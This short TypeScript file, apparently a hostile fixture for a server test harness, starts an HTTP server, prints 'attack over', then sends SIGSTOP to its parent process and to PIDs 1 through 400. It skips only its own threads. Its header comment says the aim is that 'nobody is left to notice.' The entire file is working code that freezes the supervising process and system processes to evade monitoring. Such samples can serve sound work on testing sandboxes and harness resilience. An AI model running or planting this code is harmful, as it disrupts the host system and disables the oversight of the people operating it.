/** Stops its parent and every process it can name, so that nobody is left to notice. */
import { readdirSync } from "node:fs";
import { house } from "./house.ts";

house(() => 200).listen(Number(process.env["PORT"]), () => {
  process.stdout.write("attack over\n", () => {
    // A signal to one of its own threads would stop it before it is through.
    const own = new Set(readdirSync("/proc/self/task").map(Number));
    for (const pid of [process.ppid, ...Array.from({ length: 400 }, (_, index) => index + 1)]) {
      try {
        if (!own.has(pid)) process.kill(pid, "SIGSTOP");
      } catch {
        // Not there, or not allowed.
      }
    }
  });
});
